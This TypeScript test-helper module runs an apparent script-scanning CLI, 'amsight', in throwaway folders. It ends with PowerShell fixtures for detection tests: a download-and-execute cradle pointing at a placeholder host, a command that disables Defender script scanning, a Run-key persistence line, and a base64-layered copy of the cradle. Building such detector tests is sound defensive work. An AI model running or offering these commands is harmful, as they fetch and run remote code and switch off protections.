/** Runs the built command line as users do: `node dist/cli.js`, in a folder of its own. */

import { spawn } from 'node:child_process';
import { copyFileSync, mkdtempSync, rmSync, mkdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

/** The product under test. */
export const dist = path.resolve(process.env.AMSIGHT_DIST ?? 'dist');

/** Milliseconds that a test may take which starts scan hosts on a busy machine. */
export const slow = 120_000;

export interface RunResult {
  /** Null when a signal ended it. */
  readonly status: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

export interface RunOptions {
  readonly cwd: string;
  readonly stdin?: string | Uint8Array;
  readonly env?: Readonly<Record<string, string>>;
  /** Another cli.js than the one in `dist`. */
  readonly cli?: string;
  /** User id to run as; only root may choose. */
  readonly uid?: number;
  /** Closes standard output after its first data, as `head` does. */
  readonly readOnce?: boolean;
  /** Called with what came on standard output so far; what it returns is sent as a signal, once. */
  readonly signalWhen?: (stdout: string) => NodeJS.Signals | null;
}

/** Runs `amsight` with an empty home, so that no cache of this machine's user takes part. */
export function amsight(args: readonly string[], options: RunOptions): Promise<RunResult> {
  const child = spawn(process.execPath, [options.cli ?? path.join(dist, 'cli.js'), ...args], {
    cwd: options.cwd,
    env: { ...process.env, NO_COLOR: '', FORCE_COLOR: '', ...options.env },
    detached: options.signalWhen !== undefined,
    stdio: ['pipe', 'pipe', 'pipe'],
    ...(options.uid === undefined ? {} : { uid: options.uid }),
  });
  const output = { stdout: '', stderr: '' };
  let signalled = false;
  for (const name of ['stdout', 'stderr'] as const) {
    child[name].setEncoding('utf8').on('data', (text: string) => {
      output[name] += text;
      const signal = signalled ? null : (options.signalWhen?.(output.stdout) ?? null);
      if (signal === null) return;
      signalled = true;
      // A terminal's Ctrl-C goes to the whole process group, scan hosts included.
      process.kill(-(child.pid ?? 0), signal);
    });
  }
  if (options.readOnce === true) child.stdout.once('data', () => child.stdout.destroy());
  // A program that ends without reading its input closes the pipe.
  child.stdin.on('error', (error: NodeJS.ErrnoException) => {
    if (error.code !== 'EPIPE') throw error;
  });
  if (options.stdin === undefined) child.stdin.end();
  else child.stdin.end(options.stdin);
  return new Promise((resolve, reject) => {
    child.on('error', reject);
    child.on('close', (status) => {
      resolve({ status, ...output });
    });
  });
}

/** A folder that is gone after the test. */
export class Workplace {
  readonly root = mkdtempSync(path.join(tmpdir(), 'amsight cli-'));

  /** Names are below the folder, with `/`. */
  write(files: Readonly<Record<string, string | Uint8Array>>): this {
    for (const [name, content] of Object.entries(files)) {
      const file = path.join(this.root, name);
      mkdirSync(path.dirname(file), { recursive: true });
      writeFileSync(file, content);
    }
    return this;
  }

  /** Runs `amsight` here, with a cache of its own. */
  run(args: readonly string[], options: Omit<RunOptions, 'cwd'> & { cwd?: string } = {}): Promise<RunResult> {
    const cache = path.join(this.root, '..', `${path.basename(this.root)}.cache`);
    return amsight(args, {
      cwd: this.root,
      ...options,
      env: { XDG_CACHE_HOME: cache, LOCALAPPDATA: cache, HOME: cache, ...options.env },
    });
  }

  remove(): void {
    for (const folder of [this.root, `${this.root}.cache`]) {
      rmSync(folder, { recursive: true, force: true, maxRetries: 3 });
    }
  }
}

const programFiles = ['cli.js', 'host.js', 'yara_x.wasm', 'rules.bin'] as const;

/**
 * Copies the program elsewhere.
 * @param missing what the copy lacks
 * @returns the copy's cli.js
 */
export function copyProgram(folder: string, missing: readonly (typeof programFiles)[number][] = []): string {
  mkdirSync(folder, { recursive: true });
  for (const name of programFiles) {
    if (!missing.includes(name)) copyFileSync(path.join(dist, name), path.join(folder, name));
  }
  return path.join(folder, 'cli.js');
}

/** Parts that are joined at run time: test sources hold no plain indicators. */
export const scripts = {
  /** Suspicious: a download cradle. */
  cradle: [
    'IEX (New-Object Net.WebClient).',
    "DownloadString('https://downloads.example.invalid/a.ps1')\n",
  ].join(''),
  /** Detected: script scanning switched off. */
  tampering: ['Set-MpPreference -Disable', 'ScriptScanning $true\n'].join(''),
  /** Information: a Run key is named. */
  runKey: [
    "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\Current",
    "Version\\Run' -Name a -Value b\n",
  ].join(''),
  /** Not suspicious as far as it is unwrapped: the cradle is one more layer than the budget allows. */
  get manyLayers(): string {
    const harmless = Array.from({ length: 200 }, (_, index) => `Write-Output ${index}`);
    return [...harmless, this.cradle]
      .map((text) => Buffer.from(text, 'utf16le').toString('base64'))
      .map((base64) => `[Convert]::FromBase64String('${base64}')\n`)
      .join('');
  },
  clean: "Write-Output 'hello'\n",
} as const;
